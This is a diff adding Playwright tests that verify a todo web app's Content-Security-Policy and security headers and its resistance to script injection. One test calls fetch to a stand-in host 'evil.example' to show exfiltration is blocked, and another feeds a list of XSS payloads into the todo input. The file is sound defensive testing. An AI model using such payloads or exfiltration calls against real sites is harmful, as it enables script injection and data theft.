@@ -1,0 +1,89 @@
+import { expect, type Page } from "@playwright/test";
+import { API, add, box, openTodos, signOut, test } from "./support";
+
+/** Everything the browser refused, or that failed, from now on. */
+function watch(page: Page): string[] {
+  const messages: string[] = [];
+  page.on("pageerror", (error) => messages.push(error.message));
+  page.on("console", (message) => {
+    if (/content security policy|refused to|trusted/i.test(message.text())) messages.push(message.text());
+  });
+  return messages;
+}
+
+test("every page comes with a strict policy that names the API", async ({ request }) => {
+  for (const path of ["/", "/sign-in", "/register", "/settings", "/no/such/page"]) {
+    const headers = (await request.get(path)).headers();
+    const policy = headers["content-security-policy"] ?? "";
+    expect(policy, path).toMatch(/script-src 'self'( 'sha256-[\w+/=]+')+;/);
+    expect(policy).toContain(`connect-src 'self' ${new URL(API).origin};`);
+    expect(policy).toContain("frame-ancestors 'none'");
+    expect(policy).not.toContain("unsafe-eval");
+    expect(headers).toMatchObject({
+      "x-content-type-options": "nosniff",
+      "x-frame-options": "DENY",
+      "referrer-policy": "strict-origin-when-cross-origin",
+      "cross-origin-opener-policy": "same-origin",
+    });
+    expect(headers["permissions-policy"]).toContain("camera=()");
+    expect(headers["x-powered-by"]).toBeUndefined();
+  }
+});
+
+test("normal use breaks no rule of the policy", async ({ page, account }) => {
+  const messages = watch(page);
+  await openTodos(page);
+  await add(page, account.email);
+  await page.getByRole("button", { name: `Details of “${account.email}”` }).click();
+  await page.getByRole("button", { name: /^Account of/ }).click();
+  await page.getByRole("menuitem", { name: "Settings" }).click();
+  await page.getByRole("radio", { name: "Dark" }).check();
+  await page.goto("/no/such/page");
+  await page.getByRole("link", { name: "To your todos" }).click();
+  await expect(box(page, account.email)).toBeVisible();
+  await signOut(page);
+  expect(messages).toEqual([]);
+});
+
+test("an injected script does not run, and cannot send anything away", async ({ page, account }) => {
+  await openTodos(page);
+  await add(page, account.email);
+  const outcome = await page.evaluate(async () => {
+    const inline = document.createElement("script");
+    inline.textContent = "globalThis.injected = true";
+    document.body.append(inline);
+    document.body.insertAdjacentHTML("beforeend", '<img src="/none" onerror="globalThis.injected = true">');
+    const away = await fetch("https://evil.example/", { mode: "no-cors" }).then(
+      () => "sent",
+      () => "blocked",
+    );
+    await new Promise((resolve) => setTimeout(resolve, 500));
+    return { ran: "injected" in globalThis, away };
+  });
+  expect(outcome).toEqual({ ran: false, away: "blocked" });
+});
+
+test("what people type is text, wherever it is shown", async ({ page, account }) => {
+  await openTodos(page);
+  const payloads = [
+    "<script>globalThis.injected = true</script>",
+    '<img src=x onerror="globalThis.injected = true">',
+    "javascript:globalThis.injected=true",
+    "{{constructor.constructor('globalThis.injected=true')()}}",
+    '"><svg/onload=globalThis.injected=true>',
+  ];
+  for (const payload of payloads) {
+    await add(page, payload);
+    await expect(page.getByRole("button", { name: `Edit “${payload}”`, exact: true })).toHaveText(payload);
+  }
+  await page.reload();
+  await expect(box(page, payloads[0] ?? "")).toBeVisible();
+  expect(await page.evaluate(() => "injected" in globalThis)).toBe(false);
+  expect(account.email).toContain("@");
+});
+
+test("the address of the API is learnt at run time", async ({ request }) => {
+  const response = await request.get("/config.json");
+  expect(await response.json()).toEqual({ api_origin: new URL(API).origin });
+  expect(response.headers()["cache-control"]).toBe("no-store");
+});
